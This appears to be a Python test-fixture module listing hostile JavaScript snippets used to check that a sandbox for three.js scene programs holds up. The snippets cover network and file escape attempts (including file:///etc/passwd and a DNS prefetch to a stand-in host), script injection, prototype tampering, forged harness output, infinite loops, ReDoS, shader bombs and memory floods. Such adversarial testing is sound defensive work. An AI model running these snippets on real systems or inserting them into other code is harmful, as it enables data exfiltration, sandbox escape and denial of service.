"""Programs that want out, or want to spoil it for the next one."""
# ruff: noqa: E501  code of others keeps its shape

BOX = "new THREE.Mesh(new THREE.BoxGeometry(1, 1, 1), new THREE.MeshNormalMaterial())"

REACHING = {
    "fetch": "await fetch('http://127.0.0.1:%(port)s/?fetch')",
    "fetch without cors": "await fetch('http://127.0.0.1:%(port)s/?no', { mode: 'no-cors' })",
    "request": """
        const ask = new XMLHttpRequest(); ask.open('GET', 'http://127.0.0.1:%(port)s/', false);
        ask.send();""",
    "beacon": "navigator.sendBeacon('http://127.0.0.1:%(port)s/?beacon', 'x')",
    "picture": "new Image().src = 'http://127.0.0.1:%(port)s/?image'",
    "event source": "new EventSource('http://127.0.0.1:%(port)s/?events')",
    "web socket": "new WebSocket('ws://127.0.0.1:%(port)s/'); await 1",
    "web transport": "new WebTransport('https://127.0.0.1:%(port)s/'); await 1",
    "webrtc": """
        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:%(port)s' }] });
        peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());""",
    "script tag": """
        const tag = document.createElement('script'); tag.src = 'http://127.0.0.1:%(port)s/x.js';
        document.head.append(tag);""",
    "style and font": """
        document.head.innerHTML += '<style>@import "http://127.0.0.1:%(port)s/x.css";</style>'
          + '<link rel="preconnect" href="http://127.0.0.1:%(port)s/">'
          + '<link rel="dns-prefetch" href="//secret.example">'
          + '<link rel="prefetch" href="http://127.0.0.1:%(port)s/?p">';""",
    "frame": """
        document.body.innerHTML = '<iframe src="http://127.0.0.1:%(port)s/"></iframe>'
          + '<object data="http://127.0.0.1:%(port)s/"></object><embed src="file:///etc/passwd">';""",
    "form": """
        document.body.innerHTML = '<form action="http://127.0.0.1:%(port)s/" method=post></form>';
        document.forms[0].submit();""",
    "navigation": "location.href = 'http://127.0.0.1:%(port)s/?left'",
    "navigation to a file": "location.href = 'file://%(canary)s'",
    "file": "scene.name = await (await fetch('file://%(canary)s')).text()",
    "file as module": "await import('file://%(canary)s')",
    "module from elsewhere": "import 'http://127.0.0.1:%(port)s/evil.js'; import('http://a.b/c.js');",
    "popup": "window.open('http://127.0.0.1:%(port)s/?popup'); open('about:blank').document.write('x')",
    "worker": """
        const code = URL.createObjectURL(new Blob(["for (;;) fetch('http://127.0.0.1:%(port)s')"]));
        new Worker(code); new SharedWorker(code);""",
    "service worker": "await navigator.serviceWorker.register('/web/runner.js')",
    "dialogs": "alert(1); confirm(2); prompt(3); print()",
    "download": """
        const link = document.createElement('a'); link.download = 'x.txt';
        link.href = 'data:text/plain,x'; link.click();""",
    "storage": "localStorage.x = 1; document.cookie = 'x=1'; indexedDB.open('x')",
    "broadcast": "new BroadcastChannel('x').postMessage('x'); await caches.open('x')",
    "permissions": """
        navigator.geolocation.getCurrentPosition(() => {}); Notification.requestPermission();
        await navigator.clipboard.writeText('x');""",
    "fresh realm": """
        const frame = document.createElement('iframe'); document.body.append(frame);
        await frame.contentWindow.fetch('http://127.0.0.1:%(port)s/?realm');""",
}
BREAKING = {
    "array prototype": "Array.prototype.map = Array.prototype.push = () => { throw 'no'; }",
    "object prototype": "Object.prototype.toJSON = () => 'x'; Object.prototype.scene = 'x'; Object.prototype.then = 1",
    "promise": "Promise.prototype.then = () => { throw 'no'; }; window.Promise = null",
    "json": "JSON.stringify = () => '{}'; JSON.parse = () => { throw 'no'; }",
    "three's prototypes": "THREE.Object3D.prototype.traverse = () => {}; THREE.Object3D.prototype.toJSON = () => ({})",
    "frozen primitives": "Object.freeze(Object.prototype); Object.freeze(THREE); Object.freeze(scene)",
    "map and set": "Map.prototype.get = Set.prototype.add = () => { throw 'no'; }",
    "events": "EventTarget.prototype.dispatchEvent = () => { throw 'no'; }; window.Event = null",
    "the document": "document.documentElement.remove(); document.createElement = null",
    "its own end": "window.close(); self.stop(); document.open(); document.write('<p>gone')",
    "the harness's hand-over": """
        const node = document.createElement('p'); node.id = 'program-output'; document.body.append(node);
        node.textContent = '{"scene": {"object": {"type": "Scene", "children": "x"}}}';
        document.dispatchEvent(new Event('program-output'));""",
    "a hand-over that is no json": """
        const node = document.createElement('p'); node.id = 'program-output'; document.body.append(node);
        node.textContent = '['.repeat(1e6); document.dispatchEvent(new Event('program-output'));""",
    "a lying scene": "scene.toJSON = () => ({ object: { type: 'Scene', children: [{ type: 'Mesh', geometry: {} }] } })",
    "a throwing scene": "scene.toJSON = () => { throw new Error('no'); }",
    "getters": "Object.defineProperty(scene, 'children', { get() { throw new Error('no'); } })",
    "a proxy as child": "scene.children.push(new Proxy({}, { get(_, key) { return key === 'then' ? undefined : () => 1; } }))",
    "a scene in itself": "scene.children.push(scene)",
    "recursion": "(function deeper() { deeper(); })()",
    "deep nesting": "let at = scene; for (let i = 0; i < 3000; i++) { const one = new THREE.Group(); at.add(one); at = one; }",
    "hostile names": "const one = %(box)s; one.name = '</script><img src=x onerror=alert(1)>\\u202e\\u0000'.repeat(999); scene.add(one)",
    "numbers that are none": "scene.add(new THREE.Mesh(new THREE.BoxGeometry(Infinity, NaN, -1e300)))",
    "shader bomb": """
        const slow = 'void main() { float x = 0.; for (int i = 0; i < 1 << 30; i++) x += sin(x); gl_FragColor = vec4(x); }';
        scene.add(new THREE.Mesh(new THREE.SphereGeometry(3), new THREE.ShaderMaterial({ fragmentShader: slow })));
        const own = new THREE.MeshStandardMaterial(); scene.add(new THREE.Mesh(new THREE.BoxGeometry(), own));
        own.onBeforeCompile = (shader) => { shader.fragmentShader = slow; };""",
    "console flood": "for (let i = 0; i < 1e5; i++) { console.log('x'.repeat(99)); console.error(i); }",
    "error flood": "for (let i = 0; i < 500; i++) setTimeout(() => { throw new Error('x'.repeat(1e5)); }, 1)",
    "rejections": "for (let i = 0; i < 2000; i++) Promise.reject(new Error('x'))",
}
OVERSIZED = {
    "too many triangles": "scene.add(new THREE.Mesh(new THREE.SphereGeometry(1, 900, 900)))",
    "too many copies": "scene.add(new THREE.InstancedMesh(new THREE.BoxGeometry(), undefined, 5000))",
    "too many objects": "for (let i = 0; i < 6000; i++) scene.add(new THREE.Group()); scene.add(%(box)s)",
    "too much data": """
        const array = new Float32Array(3e6).fill(0.123456); const shape = new THREE.BufferGeometry();
        shape.setAttribute('position', new THREE.BufferAttribute(array, 3));
        scene.add(new THREE.Mesh(shape));""",
}
ENDLESS = {
    "a loop": "for (;;);",
    "a loop of promises": "(function again() { Promise.resolve().then(again); })(); await new Promise(() => {})",
    "a loop while written down": "scene.add(%(box)s); scene.toJSON = () => { for (;;); }",
    "a loop in a getter": "Object.defineProperty(scene, 'children', { get() { for (;;); } })",
    "a loop in a frame": "requestAnimationFrame(() => { for (;;); })",
    "a regular expression": "/^(a+)+$/.test('a'.repeat(64) + 'b')",
}
GREEDY = {
    "a heap": "const kept = []; for (;;) kept.push(new Array(1e5).fill({}));",
    "buffers": "const kept = []; for (;;) kept.push(new Uint8Array(1 << 26).fill(1));",
    "strings": "let text = 'x'; for (;;) { text += text + 'y'; scene.name = text; }",
    "scenes": "const kept = []; for (;;) { const s = new THREE.Scene(); s.add(%(box)s); kept.push(s); }",
}
